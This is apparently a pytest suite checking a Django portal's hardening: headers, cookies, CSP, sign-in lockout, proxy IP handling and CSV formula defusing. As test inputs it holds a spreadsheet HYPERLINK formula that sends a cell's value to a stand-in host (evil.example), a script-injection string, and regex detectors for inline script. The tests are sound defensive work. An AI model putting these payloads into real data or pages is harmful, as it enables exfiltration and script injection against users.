"""Issue 13 item 4: hardening. Production's headers and cookies, each seen on a real response
under the production settings; the API without HTTP Basic in production; sign-in throttling
(django-axes) with the lockout proved; the Content Security Policy, enforced for scripts, with
what still stands in the way of enforcing it for styles listed (a test that fails when that list
changes either way)."""

import json
import re
from pathlib import Path

import pytest
from django.conf import settings
from django.test import RequestFactory
from django.urls import reverse

from planportal.signin import client_ip
from tests.factories import UserFactory
from tests.planportal.test_project import _under_production_settings

ROOT = Path(__file__).resolve().parents[2]

# Runs under the production settings: a few requests through Django's test client (the
# configured database is only read), printed as JSON.
PROBE = """
import base64, json, django
django.setup()
from django.conf import settings
from django.test import Client
from django.test.utils import override_settings
# Production serves hashed static files after collectstatic; this probe has no collected files.
override_settings(STORAGES={**settings.STORAGES, "staticfiles": {
    "BACKEND": "django.contrib.staticfiles.storage.StaticFilesStorage"}}).enable()
client = Client(HTTP_HOST="planportalen.example.org")
out = {}
page = client.get("/konto/logga-in/", secure=True)
out["status"] = page.status_code
out["headers"] = dict(page.headers)
cookie = page.cookies["csrftoken"]
out["csrf_cookie"] = {"secure": bool(cookie["secure"]), "samesite": cookie["samesite"]}
out["plain_http"] = [client.get("/konto/logga-in/").status_code, client.get("/konto/logga-in/")["Location"]]
basic = "Basic " + base64.b64encode(b"nobody:wrong-password").decode()
api = client.get("/api/v1/", secure=True, HTTP_AUTHORIZATION=basic, HTTP_ACCEPT="application/json")
out["api_with_basic"] = [api.status_code, api.headers.get("WWW-Authenticate")]
out["settings"] = {name: getattr(settings, name) for name in (
    "SESSION_COOKIE_SECURE", "SESSION_COOKIE_HTTPONLY", "CSRF_COOKIE_SECURE", "LANGUAGE_COOKIE_SECURE",
    "SECURE_SSL_REDIRECT", "DEBUG")}
out["api_authentication"] = settings.REST_FRAMEWORK["DEFAULT_AUTHENTICATION_CLASSES"]
print(json.dumps(out))
"""

TILES = "https://{s}.tiles.example.se/osm/{z}/{x}/{y}.png"


def _probe(**env):
    import os

    saved = {k: os.environ.get(k) for k in env}
    os.environ.update(env)
    try:
        unset = tuple({"CSP_STRICT_STYLES", "SECURE_HSTS_SECONDS"} - set(env))
        result = _under_production_settings("-c", PROBE, unset=unset)
    finally:
        for key, value in saved.items():
            if value is None:
                os.environ.pop(key, None)
            else:
                os.environ[key] = value
    assert result.returncode == 0, result.stderr
    return json.loads(result.stdout.strip().splitlines()[-1])


@pytest.fixture(scope="module")
def production():
    return _probe(MAP_TILE_URL=TILES)


def _directives(header):
    return {part.split()[0]: part.split()[1:] for part in header.split(";") if part.strip()}


def test_production_sends_the_security_headers(production):
    headers = production["headers"]
    assert production["status"] == 200
    assert headers["Strict-Transport-Security"] == "max-age=31536000; includeSubDomains; preload"
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["X-Frame-Options"] == "DENY"
    assert headers["Referrer-Policy"] == "strict-origin-when-cross-origin"
    assert headers["Cross-Origin-Opener-Policy"] == "same-origin"


def test_production_cookies_are_secure_and_plain_http_is_redirected(production):
    assert production["csrf_cookie"] == {"secure": True, "samesite": "Lax"}
    assert production["settings"] == {
        "SESSION_COOKIE_SECURE": True,
        "SESSION_COOKIE_HTTPONLY": True,
        "CSRF_COOKIE_SECURE": True,
        "LANGUAGE_COOKIE_SECURE": True,
        "SECURE_SSL_REDIRECT": True,
        "DEBUG": False,
    }
    status, location = production["plain_http"]
    assert status == 301 and location == "https://planportalen.example.org/konto/logga-in/"


def test_production_api_takes_no_http_basic_authentication(production):
    assert production["api_authentication"] == ["rest_framework.authentication.SessionAuthentication"]
    # A Basic header is not even read: the request is answered as the public's, no challenge.
    assert production["api_with_basic"] == [200, None]


def test_the_api_outside_production_reads_basic_so_the_production_test_can_fail(client, db):
    import base64

    basic = "Basic " + base64.b64encode(b"nobody:wrong-password").decode()
    assert client.get("/api/v1/", HTTP_AUTHORIZATION=basic).status_code in (401, 403)


def _check_policy(policy, tiles):
    assert policy["default-src"] == ["'self'"]
    assert policy["script-src"] == ["'self'"]  # no nonce used on this page, no 'unsafe-inline'
    assert policy["img-src"] == ["'self'", "data:", tiles]
    assert policy["connect-src"] == ["'self'"] and policy["font-src"] == ["'self'"]
    assert policy["object-src"] == ["'none'"]
    assert policy["frame-ancestors"] == ["'none'"]
    assert policy["base-uri"] == ["'self'"] and policy["form-action"] == ["'self'"]


def test_production_enforces_the_policy_for_scripts_and_reports_inline_styles(production):
    enforced = _directives(production["headers"]["Content-Security-Policy"])
    _check_policy(enforced, "https://*.tiles.example.se")
    # The one concession, until the blockers below are gone: inline styles.
    assert enforced["style-src"] == ["'self'", "'unsafe-inline'"]
    assert [v for values in enforced.values() for v in values if "unsafe" in v] == ["'unsafe-inline'"]
    strict = _directives(production["headers"]["Content-Security-Policy-Report-Only"])
    _check_policy(strict, "https://*.tiles.example.se")
    assert strict["style-src"] == ["'self'"]
    assert not any("unsafe" in value for values in strict.values() for value in values)


def test_csp_strict_styles_enforces_the_strict_policy_alone():
    headers = _probe(MAP_TILE_URL="https://tile.example.org/{z}/{x}/{y}.png", CSP_STRICT_STYLES="true")["headers"]
    policy = _directives(headers["Content-Security-Policy"])
    _check_policy(policy, "https://tile.example.org")
    assert policy["style-src"] == ["'self'"]
    assert "Content-Security-Policy-Report-Only" not in headers


def test_without_tiles_images_come_from_the_portal_only():
    from planportal.settings.base import content_security_policy

    assert content_security_policy("")["DIRECTIVES"]["img-src"] == ["'self'", "data:"]


# --- no inline script in the portal's templates ---------------------------------------------

TEMPLATE_DIRS = [ROOT / "templates", *ROOT.glob("*/templates")]
INLINE_SCRIPT = re.compile(r"<script\b(?![^>]*\bsrc=)(?![^>]*type=\"application/(?:ld\+)?json\")[^>]*>", re.I)
EVENT_HANDLER = re.compile(r"<[^>]*\son[a-z]+\s*=", re.I)
JAVASCRIPT_URL = re.compile(r"""(?:href|src|action)\s*=\s*["']?\s*javascript:""", re.I)
STYLE_ATTRIBUTE = re.compile(r"<[^>]*[\s}]style\s*=", re.I)
STYLE_ELEMENT = re.compile(r"<style\b", re.I)


def _templates():
    for folder in TEMPLATE_DIRS:
        if ".venv" in folder.parts or "node_modules" in folder.parts:
            continue
        yield from sorted(folder.rglob("*.html"))


def _scan(pattern):
    return sorted(str(path.relative_to(ROOT)) for path in _templates() if pattern.search(path.read_text()))


def test_no_template_of_the_portal_has_inline_script_event_handlers_or_javascript_urls():
    assert list(_templates()), "no templates found"
    assert _scan(INLINE_SCRIPT) == []
    assert _scan(EVENT_HANDLER) == []
    assert _scan(JAVASCRIPT_URL) == []


def test_the_scan_finds_what_it_looks_for():
    assert INLINE_SCRIPT.search("<script>alert(1)</script>")
    assert not INLINE_SCRIPT.search('<script src="/static/x.js"></script>')
    assert not INLINE_SCRIPT.search('<script id="d" type="application/json">{}</script>')
    assert EVENT_HANDLER.search('<a href="#" onclick="x()">')
    assert JAVASCRIPT_URL.search('<a href="javascript:x()">')
    assert STYLE_ATTRIBUTE.search('<div style="height: 1px">') and STYLE_ELEMENT.search("<style>")
    assert STYLE_ATTRIBUTE.search('<div {% if h %}style="height: {{ h }}"{% endif %}>')


# What keeps the strict policy (styles from files only) report-only. Each entry is a page that
# enforcing it would break. When one is fixed this test fails: take it off the list; when the
# list is empty, make CSP_STRICT_STYLES default to true in planportal/settings/base.py.
KNOWN_BLOCKERS = {
    # style="" attributes (style-src 'self' blocks them): move to classes in static/css.
    "style attribute: referrals/templates/referrals/work_list.html",
    "style attribute: rus/templates/rus/indicator_detail.html",  # legend swatches' colours
    "style attribute: rus/templates/rus/report_body.html",
    "style attribute: templates/includes/map.html",  # the map's height
    # <style> elements.
    "style element: referrals/templates/referrals/reply/print.html",
}


def _blockers():
    from django.template.loader import get_template
    from django.urls import resolve
    from drf_spectacular.views import SpectacularSwaggerSplitView
    from rest_framework.renderers import BrowsableAPIRenderer
    from rest_framework.settings import api_settings

    found = {f"style attribute: {name}" for name in _scan(STYLE_ATTRIBUTE)}
    found |= {f"style element: {name}" for name in _scan(STYLE_ELEMENT)}
    docs = resolve(reverse("api-docs")).func.view_class
    if not issubclass(docs, SpectacularSwaggerSplitView):  # the plain view's start-up script is inline
        found.add(f"inline script: /api/docs/ ({docs.__name__})")
    third_party = ["drf_spectacular/swagger_ui.html"]
    # DRF's browsable API (its base.html has a <style> block) only where a renderer shows it
    if any(issubclass(renderer, BrowsableAPIRenderer) for renderer in api_settings.DEFAULT_RENDERER_CLASSES):
        third_party.append("rest_framework/base.html")
    for name in third_party:
        source = get_template(name).template.source
        # (swagger_ui.html keeps an inline script for the plain view, which the portal does not use)
        if name != "drf_spectacular/swagger_ui.html" and INLINE_SCRIPT.search(source):
            found.add(f"inline script: {name}")
        if STYLE_ELEMENT.search(source):
            found.add(f"style element: {name}")
    return found


def test_what_still_blocks_enforcing_the_policy_is_known():
    assert settings.CSP_STRICT_STYLES is False and settings.CONTENT_SECURITY_POLICY_REPORT_ONLY
    found = _blockers()
    assert found - KNOWN_BLOCKERS == set(), "new: fix it, or add it to KNOWN_BLOCKERS"
    assert KNOWN_BLOCKERS - found == set(), "fixed: take it off KNOWN_BLOCKERS"


def test_every_page_carries_the_policy(client, db):
    response = client.get(reverse("login"))
    for header in ("Content-Security-Policy", "Content-Security-Policy-Report-Only"):
        policy = _directives(response[header])
        assert policy["script-src"] == ["'self'"] and policy["object-src"] == ["'none'"]


def test_admin_map_widgets_get_a_nonce_and_the_policy_names_it(admin_client):
    """django-leaflet's admin widget is the one inline script; it carries the request's nonce."""
    response = admin_client.get(reverse("admin:networks_organisation_add"))
    assert response.status_code == 200
    nonce = re.search(r"<script nonce=\"([^\"]+)\"", response.content.decode())
    assert nonce, "the map widget's script has no nonce"
    policy = _directives(response["Content-Security-Policy"])
    assert policy["script-src"] == ["'self'", f"'nonce-{nonce.group(1)}'"]


# --- sign-in throttling ----------------------------------------------------------------------


def _sign_in(client, username, password, address="192.0.2.10"):
    return client.post(reverse("login"), {"username": username, "password": password}, REMOTE_ADDR=address)


@pytest.mark.django_db
def test_sign_in_is_refused_after_the_failure_limit_for_that_user_and_address(client):
    UserFactory(username="anna")
    UserFactory(username="bertil")
    limit = settings.AXES_FAILURE_LIMIT
    assert 3 <= limit <= 10
    for _ in range(limit - 1):
        assert _sign_in(client, "anna", "fel").status_code == 200  # the form again, with its error
    locked = _sign_in(client, "anna", "fel")
    assert locked.status_code == 429
    assert "För många misslyckade inloggningar" in locked.content.decode()
    assert "Vänta 15 minuter" in locked.content.decode()
    # Now even the right password is refused, from that address, for that user name …
    right = _sign_in(client, "anna", "secret-pass-123")
    assert right.status_code == 429 and "_auth_user_id" not in client.session
    # … but the same person elsewhere, and another user at the same address, sign in.
    assert _sign_in(client, "anna", "secret-pass-123", address="198.51.100.7").status_code == 302
    client.logout()
    assert _sign_in(client, "bertil", "secret-pass-123").status_code == 302


@pytest.mark.django_db
def test_the_lockout_message_is_english_on_the_english_side(client):
    UserFactory(username="cecilia")
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    for _ in range(settings.AXES_FAILURE_LIMIT):
        response = _sign_in(client, "cecilia", "wrong")
    assert response.status_code == 429
    body = response.content.decode()
    assert "Too many failed sign-ins with this user name from your address. Wait 15 minutes" in body
    assert "Signing in is temporarily blocked" in body and "misslyckade" not in body


@pytest.mark.django_db
def test_a_successful_sign_in_clears_the_failures(client):
    UserFactory(username="david")
    for _ in range(settings.AXES_FAILURE_LIMIT - 1):
        _sign_in(client, "david", "fel")
    assert _sign_in(client, "david", "secret-pass-123").status_code == 302
    client.logout()
    for _ in range(settings.AXES_FAILURE_LIMIT - 1):
        assert _sign_in(client, "david", "fel").status_code == 200


def test_client_address_behind_trusted_proxies(settings):
    request = RequestFactory().get("/", REMOTE_ADDR="10.0.0.1", HTTP_X_FORWARDED_FOR="6.6.6.6, 203.0.113.5")
    settings.TRUSTED_PROXY_COUNT = 0
    assert client_ip(request) == "10.0.0.1"
    settings.TRUSTED_PROXY_COUNT = 1  # the proxy appended the address it saw; the rest is the client's claim
    assert client_ip(request) == "203.0.113.5"
    settings.TRUSTED_PROXY_COUNT = 3  # fewer entries than proxies: not trusted
    assert client_ip(request) == "10.0.0.1"


# --- CSV exports safe from formula injection -------------------------------------------------


def test_safe_cell_defuses_formulas_and_keeps_numbers():
    from planportal.csvexport import safe_cell

    for formula in ('=HYPERLINK("http://x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
        assert safe_cell(formula) == "'" + formula
    assert safe_cell("Örebro kommun") == "Örebro kommun"
    assert safe_cell(-3) == -3 and safe_cell(2.5) == 2.5 and safe_cell(None) == ""


@pytest.mark.django_db
def test_the_networks_participation_csv_defuses_formulas(client):
    import csv
    import io

    from tests.networks.factories import NetworkFactory

    NetworkFactory(name='=HYPERLINK("http://evil.example/?"&A1;"Klicka")', purpose="@SUM(1+1)", slug="evil")
    response = client.get(reverse("networks:participation_csv"))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    evil = next(row for row in rows if "HYPERLINK" in row[0])
    assert evil[0].startswith("'=HYPERLINK") and evil[3] == "'@SUM(1+1)"
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)


def test_exports_outside_referrals_write_csv_through_the_shared_helper():
    """Every app writes CSV only through planportal.csvexport (the lists' downloads through the
    exports app, which uses it)."""
    writers = []
    for app in ("knowledge", "networks", "rus", "referrals", "exports", "planportal"):
        for path in (ROOT / app).rglob("*.py"):
            if path.name != "csvexport.py" and re.search(r"csv\.(writer|DictWriter)\(", path.read_text()):
                writers.append(str(path.relative_to(ROOT)))
    assert writers == []
